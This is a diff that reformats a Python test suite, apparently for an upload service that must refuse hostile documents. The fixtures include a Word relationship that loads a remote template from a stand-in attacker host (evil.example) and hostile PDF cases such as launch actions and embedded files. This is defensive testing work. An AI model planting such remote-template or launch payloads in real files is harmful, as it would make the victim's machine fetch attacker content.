@@ -53,7 +53,9 @@ def pdf(objects: list[str | bytes], *, unlisted: bytes = b"") -> bytes:
     xref = len(out)
     out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
     out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
-    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    out += (
+        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    )
     return out
 
 
@@ -264,9 +266,7 @@ REMOTE_TEMPLATE = (
     b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
     b'TargetMode="External"/></Relationships>'
 )
-HYPERLINK = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(
-    b"t.dotm", b"berita"
-)
+HYPERLINK = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(b"t.dotm", b"berita")
 
 
 # --- uploading as an attacker would -------------------------------------------------------------
@@ -335,9 +335,7 @@ def assert_refused_through_both_doors(client, folder, data: bytes, name: str, wo
 
 
 @pytest.mark.parametrize("case", sorted(HOSTILE_PDFS))
-def test_a_hostile_pdf_is_refused_whatever_its_disguise(
-    case, staf_client, pkp_folder, upload_dir
-):
+def test_a_hostile_pdf_is_refused_whatever_its_disguise(case, staf_client, pkp_folder, upload_dir):
     words = {
         "launch": ["memulai program"],
         "embedded-file": ["berkas yang disematkan"],
